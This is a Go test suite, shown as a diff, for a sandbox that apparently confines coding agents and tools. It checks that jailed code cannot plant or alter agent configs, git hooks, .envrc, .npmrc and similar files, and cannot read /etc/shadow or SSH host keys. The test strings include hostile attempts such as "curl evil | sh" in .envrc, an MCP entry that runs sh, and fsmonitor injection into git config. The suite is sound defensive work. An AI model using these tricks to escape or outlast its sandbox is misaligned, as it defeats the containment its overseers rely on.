@@ -1,0 +1,307 @@
+package tests
+
+import (
+	"os"
+	"os/exec"
+	"path/filepath"
+	"sort"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+)
+
+// missingProtected are delayed-escape paths absent from a fresh project,
+// each with a command that would create it from inside the jail.
+var missingProtected = map[string]string{
+	".mcp.json":                   `echo '{"mcpServers": {"evil": {"command": "sh"}}}' > .mcp.json`,
+	".claude/settings.json":       `mkdir -p .claude && echo '{"hooks": {}}' > .claude/settings.json`,
+	".claude/settings.local.json": `mkdir -p .claude && echo '{}' > .claude/settings.local.json`,
+	".claude/commands/x.md":       "mkdir -p .claude/commands && echo evil > .claude/commands/x.md",
+	".envrc":                      "echo 'curl evil | sh' > .envrc",
+	".vscode/tasks.json":          `mkdir -p .vscode && echo '{}' > .vscode/tasks.json`,
+	".devcontainer/x.json":        "mkdir -p .devcontainer && echo '{}' > .devcontainer/x.json",
+	".pre-commit-config.yaml":     "echo 'repos: []' > .pre-commit-config.yaml",
+	".husky/pre-commit":           "mkdir -p .husky && echo evil > .husky/pre-commit",
+	".gemini/settings.json":       "mkdir -p .gemini && echo '{}' > .gemini/settings.json",
+	".cursor/mcp.json":            "mkdir -p .cursor && echo '{}' > .cursor/mcp.json",
+	".codex/config.toml":          "mkdir -p .codex && echo x > .codex/config.toml",
+	".windsurf/x":                 "mkdir -p .windsurf && echo x > .windsurf/x",
+	".zed/settings.json":          "mkdir -p .zed && echo '{}' > .zed/settings.json",
+	".continue/config.json":       "mkdir -p .continue && echo '{}' > .continue/config.json",
+	"opencode.json":               `echo '{"mcp": {}}' > opencode.json`,
+	".opencode/plugin/x.js":       "mkdir -p .opencode/plugin && echo x > .opencode/plugin/x.js",
+	".npmrc":                      "echo 'script-shell=/tmp/evil' > .npmrc",
+	".yarnrc.yml":                 "echo 'yarnPath: ./evil.js' > .yarnrc.yml",
+	"bunfig.toml":                 "echo 'preload = [\"./evil.ts\"]' > bunfig.toml",
+	".cargo/config.toml":          "mkdir -p .cargo && echo '[build]' > .cargo/config.toml",
+	"mise.toml":                   "echo '[hooks]' > mise.toml",
+	"lefthook.yml":                "echo 'pre-commit: {}' > lefthook.yml",
+	".gitmodules":                 "echo '[submodule x]' > .gitmodules",
+	"jail.json":                   `echo '{"filesystem": {"allowRead": ["~"]}}' > jail.json`,
+	".git/info/attributes":        "echo '* filter=evil' > .git/info/attributes",
+}
+
+// listTree lists every path under dir on the host, relative to it, .git's
+// objects aside (a commit inside adds some legitimately).
+func listTree(t *testing.T, dir string) []string {
+	t.Helper()
+	var out []string
+	filepath.Walk(dir, func(p string, fi os.FileInfo, err error) error {
+		if err != nil {
+			return nil
+		}
+		rel, _ := filepath.Rel(dir, p)
+		if rel == ".git/objects" || rel == ".git/logs" || rel == ".git/refs" {
+			return filepath.SkipDir
+		}
+		out = append(out, rel)
+		return nil
+	})
+	sort.Strings(out)
+	return out
+}
+
+func sameTree(t *testing.T, what string, before, after []string) {
+	t.Helper()
+	if strings.Join(before, "\n") != strings.Join(after, "\n") {
+		t.Errorf("%s: the project on the host changed.\nbefore: %q\nafter:  %q", what, before, after)
+	}
+}
+
+// TestMissingProtectedPathsCannotBeCreated: a protected path absent at
+// start cannot be created from inside (an unjailed editor or agent could
+// read it while the jail still runs), and nothing of the placeholders that
+// hold them is left on the host afterwards.
+func TestMissingProtectedPathsCannotBeCreated(t *testing.T) {
+	t.Parallel()
+	forEachRunner(t, func(t *testing.T, s *Sandbox) {
+		t.Parallel()
+		os.RemoveAll(s.Project + "/.git/info")
+		before := listTree(t, s.Project)
+		tries := map[string]string{"control-new-file": "echo ok > notes.txt && rm notes.txt", "control-new-dir": "mkdir -p src/x && rmdir src/x src"}
+		for rel, cmd := range missingProtected {
+			tries["create "+rel] = cmd
+		}
+		got, r := attempts(t, s, nil, tries)
+		for name, ok := range got {
+			if strings.HasPrefix(name, "control-") != ok {
+				t.Errorf("%q: succeeded=%v\n%s", name, ok, r)
+			}
+		}
+		for rel := range missingProtected {
+			hostAbsent(t, filepath.Join(s.Project, rel))
+		}
+		sameTree(t, "after a normal exit", before, listTree(t, s.Project))
+		if st := s.Host("git", "-C", s.Project, "status", "--porcelain", "--ignored"); st != "" {
+			t.Errorf("git status on the host after the jail exited: %q", st)
+		}
+	})
+}
+
+// TestProtectedWhileRunning: the placeholders hold from the host's side
+// too: while the jail runs, what an unjailed tool sees at a protected path
+// is an empty placeholder, never the command's content.
+func TestProtectedWhileRunning(t *testing.T) {
+	t.Parallel()
+	forEachRunner(t, func(t *testing.T, s *Sandbox) {
+		t.Parallel()
+		cmd := s.JailCmd("--", "sh", "-c", `echo '{"mcpServers":{"evil":{}}}' > .mcp.json 2>/dev/null; touch started; sleep 30`)
+		if err := cmd.Start(); err != nil {
+			t.Fatal(err)
+		}
+		defer cmd.Process.Kill()
+		waitForFile(t, s.Project+"/started")
+		if b, err := os.ReadFile(s.Project + "/.mcp.json"); err != nil || strings.Contains(string(b), "evil") {
+			t.Errorf("while the jail runs, .mcp.json on the host is %q (%v); want the placeholder", b, err)
+		}
+		// A user's own file written into a placeholder directory from the
+		// host while the jail runs is kept when the placeholder goes.
+		if err := os.WriteFile(s.Project+"/.vscode/settings.json", []byte(`{"user": 1}`), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		cmd.Process.Signal(syscall.SIGTERM)
+		cmd.Wait()
+		if got := hostFile(t, s.Project+"/.vscode/settings.json"); got != `{"user": 1}` {
+			t.Errorf("the user's file in .vscode was lost: %q", got)
+		}
+		hostAbsent(t, s.Project+"/.mcp.json")
+	})
+}
+
+// TestPlaceholdersRemovedAfterKill: jail killed with SIGKILL cannot remove
+// its placeholders; the next jail to start does, and leaves the user's
+// files alone.
+func TestPlaceholdersRemovedAfterKill(t *testing.T) {
+	t.Parallel()
+	forEachRunner(t, func(t *testing.T, s *Sandbox) {
+		t.Parallel()
+		before := listTree(t, s.Project)
+		cmd := s.JailCmd("--", "sh", "-c", "touch started; sleep 60")
+		if err := cmd.Start(); err != nil {
+			t.Fatal(err)
+		}
+		waitForFile(t, s.Project+"/started")
+		os.Remove(s.Project + "/started")
+		cmd.Process.Signal(syscall.SIGKILL)
+		cmd.Wait()
+		if _, err := os.Lstat(s.Project + "/.mcp.json"); err != nil {
+			t.Fatalf("control: no placeholder left by the killed jail (%v); the test would prove nothing", err)
+		}
+		waitGone(t, "sleep 60")
+		if r := s.Jail("--", "true"); r.Code != 0 {
+			t.Fatalf("next run failed:\n%s", r)
+		}
+		sameTree(t, "after kill -9 and the next run", before, listTree(t, s.Project))
+	})
+}
+
+// TestConcurrentJailsKeepPlaceholders: when one of two jails in the same
+// project exits, the other's protected paths stay held (removing a
+// placeholder would detach the other jail's mount on it).
+func TestConcurrentJailsKeepPlaceholders(t *testing.T) {
+	t.Parallel()
+	forEachRunner(t, func(t *testing.T, s *Sandbox) {
+		t.Parallel()
+		before := listTree(t, s.Project)
+		long := s.JailCmd("--", "sh", "-c", "touch started; while [ ! -e go ]; do sleep 0.05; done; echo '{}' > .mcp.json && echo CREATED; mkdir -p .vscode/x && echo CREATED")
+		var out strings.Builder
+		long.Stdout = &out
+		if err := long.Start(); err != nil {
+			t.Fatal(err)
+		}
+		defer long.Process.Kill()
+		waitForFile(t, s.Project+"/started")
+		os.Remove(s.Project + "/started")
+		if r := s.Jail("--", "true"); r.Code != 0 {
+			t.Fatalf("second jail failed:\n%s", r)
+		}
+		os.WriteFile(s.Project+"/go", nil, 0o644)
+		s.chownUp(s.Project + "/go")
+		long.Wait()
+		os.Remove(s.Project + "/go")
+		if strings.Contains(out.String(), "CREATED") {
+			t.Errorf("after another jail in the project exited, a protected path could be created:\n%s", out.String())
+		}
+		sameTree(t, "after both jails exited", before, listTree(t, s.Project))
+	})
+}
+
+// TestGitDirCannotBeMovedOrReplaced: .git is pinned (not renamable, not
+// replaceable by a gitdir file), and so is every directory above a
+// protected path, so a bind cannot be got around by renaming its parent.
+func TestGitDirCannotBeMovedOrReplaced(t *testing.T) {
+	t.Parallel()
+	forEachRunner(t, func(t *testing.T, s *Sandbox) {
+		t.Parallel()
+		p := s.Project
+		s.WriteFile(p+"/.claude/settings.json", `{}`, 0o644)
+		s.WriteFile(p+"/.git/modules/lib/config", "[core]\n", 0o644)
+		s.WriteFile(p+"/.git/modules/lib/hooks/post-checkout.sample", "", 0o755)
+		s.WriteFile(p+"/.git/worktrees/w/gitdir", "/elsewhere/.git\n", 0o644)
+		s.WriteFile(p+"/vendor/lib/.git/config", "[core]\n", 0o644)
+		s.WriteFile(p+"/vendor/lib/.git/HEAD", "ref: refs/heads/main\n", 0o644)
+		s.Host("git", "-C", p, "config", "core.hooksPath", ".githooks")
+		s.WriteFile(p+"/.githooks/pre-commit", "#!/bin/sh\nexit 0\n", 0o755)
+		before := listTree(t, p)
+		cfg := hostFile(t, p+"/.git/config")
+		got, r := attempts(t, s, nil, map[string]string{
+			"mv .git":              "mv .git .git-old && mkdir .git",
+			"rmdir .git":           "rm -rf .git/hooks .git/config .git/info; rmdir .git 2>/dev/null || rm -f .git; [ ! -e .git ]",
+			".git as gitdir file":  "mv .git .g; echo 'gitdir: /tmp/evil' > .git",
+			"mv .claude":           "mv .claude .claude-old && mkdir .claude && echo '{\"hooks\":{}}' > .claude/settings.json",
+			"module config":        "echo '[core] fsmonitor = evil' >> .git/modules/lib/config",
+			"module hooks":         "echo evil > .git/modules/lib/hooks/post-checkout",
+			"mv module":            "mv .git/modules/lib .git/modules/lib2 && mkdir -p .git/modules/lib/hooks",
+			"worktree":             "echo evil > .git/worktrees/w/config.worktree",
+			"nested config":        "echo '[core] fsmonitor = evil' >> vendor/lib/.git/config",
+			"nested hooks":         "mkdir -p vendor/lib/.git/hooks && echo evil > vendor/lib/.git/hooks/pre-commit",
+			"mv nested":            "mv vendor/lib/.git vendor/lib/.git2",
+			"hooksPath":            "echo evil > .githooks/pre-commit",
+			"hooksPath mv":         "mv .githooks .gh && mkdir .githooks",
+			"control-git-commit":   "git -c user.name=j -c user.email=j@example.test commit -q --allow-empty -m inside",
+			"control-write-inside": "echo ok > .claude/notes.md && rm .claude/notes.md",
+		})
+		for name, ok := range got {
+			if strings.HasPrefix(name, "control-") != ok {
+				t.Errorf("%q: succeeded=%v\n%s", name, ok, r)
+			}
+		}
+		hostUnchanged(t, p+"/.git/config", cfg)
+		hostUnchanged(t, p+"/.githooks/pre-commit", "#!/bin/sh\nexit 0\n")
+		if fi, err := os.Lstat(p + "/.git"); err != nil || !fi.IsDir() {
+			t.Errorf(".git on the host is no longer the directory: %v", err)
+		}
+		sameTree(t, "after the attempts", before, listTree(t, p))
+	})
+}
+
+// TestProtectedSymlinkRefused: a protected path that is a symlink inside
+// the project could be replaced from inside; jail refuses to run and says
+// how to fix it.
+func TestProtectedSymlinkRefused(t *testing.T) {
+	t.Parallel()
+	forEachRunner(t, func(t *testing.T, s *Sandbox) {
+		t.Parallel()
+		s.WriteFile(s.Project+"/shared/claude/settings.json", "{}", 0o644)
+		if err := os.Symlink("shared/claude", s.Project+"/.claude"); err != nil {
+			t.Fatal(err)
+		}
+		s.chownUp(s.Project + "/.claude")
+		r := s.Sh("touch ran")
+		if r.Code != 125 || !strings.Contains(r.Stderr, ".claude is a symlink") {
+			t.Errorf("want exit 125 naming the symlink:\n%s", r)
+		}
+		hostAbsent(t, s.Project+"/ran")
+	})
+}
+
+// TestRootSecretsMasked: as root, the root-only secrets outside the home
+// that exist on this machine are unreadable inside.
+func TestRootSecretsMasked(t *testing.T) {
+	t.Parallel()
+	for _, r := range runners(t) {
+		if r.UID != 0 {
+			continue
+		}
+		s := NewSandbox(t, r)
+		var present []string
+		for _, p := range []string{"/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/etc/ssh/ssh_host_ed25519_key", "/etc/ssh/ssh_host_rsa_key", "/etc/ssl/private", "/etc/sudoers.d"} {
+			if _, err := os.Stat(p); err == nil {
+				present = append(present, p)
+			}
+		}
+		if b, err := os.ReadFile("/etc/shadow"); err != nil || len(b) == 0 {
+			t.Fatalf("control: root cannot read /etc/shadow on the host: %v", err)
+		}
+		if len(present) < 3 {
+			t.Fatalf("control: only %v exist on this machine", present)
+		}
+		var script []string
+		for _, p := range present {
+			script = append(script, "if [ -d "+p+" ]; then c=$(ls -A "+p+" 2>/dev/null); else c=$(cat "+p+" 2>/dev/null); fi; [ -z \"$c\" ] || echo READ "+p)
+		}
+		res := s.Sh(strings.Join(script, "\n"))
+		if strings.Contains(res.Stdout, "READ") || res.Code != 0 {
+			t.Errorf("root-only secrets readable inside as root:\n%s", res)
+		}
+	}
+}
+
+// waitForFile waits until path exists on the host.
+func waitForFile(t *testing.T, path string) {
+	t.Helper()
+	if !waitFor(5*time.Second, func() bool { _, err := os.Lstat(path); return err == nil }) {
+		t.Fatalf("%s never appeared", path)
+	}
+}
+
+// waitGone waits until no process runs with this command line (the
+// jailed processes of a killed jail die with its PID namespace).
+func waitGone(t *testing.T, cmdline string) {
+	t.Helper()
+	waitFor(5*time.Second, func() bool {
+		out, _ := exec.Command("pgrep", "-f", "^"+cmdline+"$").Output()
+		return len(out) == 0
+	})
+}
